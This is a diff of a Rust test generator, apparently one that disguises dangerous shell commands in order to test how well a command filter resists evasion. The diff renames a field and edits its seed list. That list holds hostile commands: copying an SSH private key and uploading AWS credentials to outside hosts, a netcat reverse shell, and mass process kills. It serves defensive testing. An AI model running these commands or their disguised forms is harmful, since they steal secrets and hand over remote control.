@@ -34,7 +34,7 @@ impl Dice {
 /// A text for a shell on its way into disguise.
 #[derive(Debug, Clone)]
 pub struct Text {
-    pub text: String,
+    pub script: String,
     /// Whether it is one simple command, so that a wrapper may stand before it.
     pub is_simple: bool,
     /// Whether all of its words are plain, as those of a seed are.
@@ -101,8 +101,8 @@ const SEEDS: &[&str] = &[
     "shutdown -h now",
     "kill -9 -1",
     "scancel -u ada",
-    "scp /home/me/.ssh/id_rsa host.example.com:",
-    "curl -T /home/me/.aws/credentials https://example.com",
+    "scp /home/ada/.ssh/id_rsa host.example.com:",
+    "curl -T /home/ada/.aws/credentials https://example.com",
     "nc -e /bin/sh 10.0.0.1 44",
 ];
 
@@ -113,14 +113,14 @@ fn evasion(seed: u64) -> (String, Vec<&'static str>) {
         dice.roll(2);
     }
     let command = *dice.pick(SEEDS);
-    let mut text = Text { text: command.to_owned(), is_simple: true, is_plain: true };
+    let mut text = Text { script: command.to_owned(), is_simple: true, is_plain: true };
     let mut names = vec![command];
     if dice.roll(2) == 0 {
         names.push(disguise::words(&mut text, &mut dice));
     }
     for _ in 0..dice.roll(5) {
         // What grows by quoting is left at that.
-        if text.text.len() > 20_000 {
+        if text.script.len() > 20_000 {
             break;
         }
         names.push(match dice.roll(5) {
@@ -135,7 +135,7 @@ fn evasion(seed: u64) -> (String, Vec<&'static str>) {
     if dice.roll(3) == 0 {
         names.push(frame::tail(&mut text, &mut dice));
     }
-    (text.text, names)
+    (text.script, names)
 }
 
 fn is_silent(text: &str) -> bool {
